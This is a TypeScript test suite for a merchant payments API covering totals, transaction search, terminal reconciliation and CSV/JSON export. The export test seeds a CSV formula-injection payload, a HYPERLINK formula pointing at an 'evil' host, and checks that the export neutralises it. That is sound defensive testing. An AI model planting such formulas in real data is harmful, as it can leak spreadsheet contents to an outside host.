import { afterAll, beforeAll, expect, it } from 'vitest'
import { aMerchant } from '../support/builders.ts'
import { aPayer, aShop, type Payer, type Shop } from '../support/shop.ts'
import { createTestDatabase, type TestDatabase } from '../support/test-database.ts'
import { startTestServer, type TestServer } from '../support/test-server.ts'
import { adminToken, managerToken } from '../support/tokens.ts'

let database: TestDatabase
let server: TestServer
let shop: Shop
let payer: Payer
let manager: string
let chargeId: string
beforeAll(async () => {
  database = await createTestDatabase()
  server = await startTestServer(database.appUrl)
  shop = await aShop(database, server)
  payer = await aPayer(database, server)
  manager = await managerToken(server, shop.merchant)
  const charges = [
    await shop.till.charge(await payer.code(), { amount: 40_00 }),
    await shop.till.charge(await payer.code(), { amount: 2000_00 }),
  ]
  await shop.till.send(server, charges)
  chargeId = charges[0]!.id
})
afterAll(async () => {
  await server.stop()
  await database.drop()
})

const today = () => new Date(Date.now() + 8 * 3_600_000).toISOString().slice(0, 10)

it('gives a manager the totals of the day', async () => {
  const { status, body } = await server.call(`/v1/merchant/totals?firstDay=${today()}&lastDay=${today()}`, { token: manager })
  expect(status).toBe(200)
  expect(body).toMatchObject({
    total: { payments: { count: 1, gross: 40_00, net: 40_00 }, declined: { count: 1, gross: 2000_00 }, fees: 60 },
    byMethod: [{ method: 'balance' }],
    byCardType: [{ cardType: 'standard' }],
  })
  const { merchantId } = shop.merchant
  const path = `/v1/admin/merchants/${merchantId}/totals?firstDay=${today()}&lastDay=${today()}`
  expect((await server.call(path, { token: await adminToken(server, database) })).body).toEqual(body)
})

it('lets a manager search, page and find by number', async () => {
  const first = await server.call('/v1/merchant/transactions?limit=1', { token: manager })
  const rest = await server.call(`/v1/merchant/transactions?cursor=${String(first.body['next'])}`, { token: manager })
  const all = [first, rest].flatMap(({ body }) => body['transactions'] as { txNo: string; finalAmount: number }[])
  expect(all.map(({ finalAmount }) => finalAmount).toSorted((a, b) => a - b)).toEqual([40_00, 2000_00])
  const found = await server.call(`/v1/merchant/transactions?txNo=${all[0]!.txNo}`, { token: manager })
  expect(found.body['transactions']).toMatchObject([{ txNo: all[0]!.txNo, cardSuffix: payer.cardNo.slice(-4) }])
})

it.each([
  'status=lost',
  'minAmount=-1',
  'minAmount=1e3',
  'cardSuffix=12345',
  'txNo=12',
  'cursor=e30',
  'limit=0',
  'from=yesterday',
  'colour=red',
])('refuses the search %s', async (query) => {
  const { status, body } = await server.call(`/v1/merchant/transactions?${query}`, { token: manager })
  expect({ status, code: body['code'] }).toEqual({ status: 422, code: 'validation_failed' })
})

it('lets a terminal find what a receipt names, and nothing of another shop', async () => {
  const token = await shop.device.token()
  const byEntry = await server.call(`/v1/terminal/transactions?entryId=${chargeId}`, { token })
  expect(byEntry.body['transactions']).toMatchObject([{ entryId: chargeId, finalAmount: 40_00, status: 'completed' }])
  const other = await aShop(database, server)
  const foreign = await server.call(`/v1/terminal/transactions?entryId=${chargeId}`, { token: await other.device.token() })
  expect(foreign.body).toEqual({ transactions: [], next: null })
})

it('names the entries that a terminal made and the server does not hold', async () => {
  const { till, merchant, device } = await aShop(database, server)
  const token = await managerToken(server, merchant)
  const counts = async () => (await server.call('/v1/merchant/terminal-counts', { token })).body['terminals']
  const [first, lost, third] = [
    await till.make('scan_refused', refusal()),
    await till.make('scan_refused', refusal()),
    await till.make('scan_refused', refusal()),
  ]
  await till.send(server, [first])
  await till.send(server, [third])
  expect(await counts()).toMatchObject([{ made: 3, held: 2, difference: 'missing', missingSeqs: [2] }])
  const heartbeat = { epoch: 1, lastSeq: 3, queueDepth: 1, queueSum: 5_00, oldestAgeS: 9, clockOffsetMs: 0, app: 'test 1.0.0' }
  await server.call('/v1/terminal/heartbeat', { body: heartbeat, token: await device.token() })
  expect(await counts()).toMatchObject([{ difference: 'queued', queued: { count: 1, amount: 5_00, oldestAgeS: 9 }, missingSeqs: [2] }])
  await till.send(server, [lost])
  expect(await counts()).toMatchObject([{ made: 3, held: 3, difference: 'even', missingSeqs: [] }])
})

const refusal = () => ({ codeHash: '0'.repeat(64), scannedAt: new Date().toISOString(), reason: 'code_expired' })

it('exports everything, as JSON and as CSV that no spreadsheet takes for a formula', async () => {
  const { merchantId, managerId } = await aMerchant(database)
  await database.owner.query(
    `insert into app.transactions (id, tx_no, tx_type, card_id, merchant_id, raw_amount, final_amount, status, reason, payment_method, created_at)
     select sec.uuid_v7(), app.next_tx_no(now()), 'payment', $2, $1, n, n, 'completed', case n when 7 then '=HYPERLINK("http://evil"&A1)' end, 'cash', now()
     from generate_series(1, 1203) n`,
    [merchantId, payer.cardId],
  )
  const token = await managerToken(server, { merchantId, managerId, cashierId: managerId })
  const json = await server.call('/v1/merchant/transactions/export?format=json', { token })
  const rows = JSON.parse(json.text) as { finalAmount: number; txNo: string }[]
  expect(rows.reduce((sum, { finalAmount }) => sum + finalAmount, 0)).toBe(((1203 * 1204) / 2) * 100)
  expect(new Set(rows.map(({ txNo }) => txNo)).size).toBe(1203)
  const csv = await server.call('/v1/merchant/transactions/export', { token })
  expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename=transactions-.*\.csv$/)
  const lines = csv.text.trim().split('\n')
  expect(lines).toHaveLength(1204)
  expect(lines.filter((line) => line.includes('HYPERLINK'))).toEqual([expect.stringContaining(`,"'=HYPERLINK(""http://evil""&A1)"`)])
  const none = await server.call('/v1/merchant/transactions/export?format=json&minAmount=999999999', { token })
  expect(JSON.parse(none.text)).toEqual([])
  const { rows: audit } = await database.owner.query(
    `select 1 from audit.event_log where action = 'transactions.exported' and object_id = $1`,
    [merchantId],
  )
  expect(audit).toHaveLength(3)
})
